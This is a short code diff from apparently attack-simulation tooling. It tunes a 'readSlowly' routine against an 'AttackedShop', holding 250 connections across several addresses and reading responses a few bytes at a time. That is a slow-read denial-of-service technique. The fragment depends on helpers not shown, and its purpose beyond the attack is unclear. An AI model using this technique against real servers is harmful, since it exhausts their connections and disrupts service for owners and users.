@@ -45,9 +45,10 @@ async function listPaths({ url, books }: AttackedShop): Promise<string[]> {
 async function readSlowly(shop: AttackedShop) {
   const paths = await listPaths(shop);
   return holdConnections(shop, {
-    connections: 10 * paths.length,
+    connections: 250,
     addresses: 5,
-    first: (number) => get(paths[number % paths.length] ?? '/').repeat(20),
+    // As few as no server disconnects for: it is the reading that is slow.
+    first: (number) => get(paths[number % paths.length] ?? '/').repeat(2),
     then: (socket) => void socket.read(64),
   });
 }
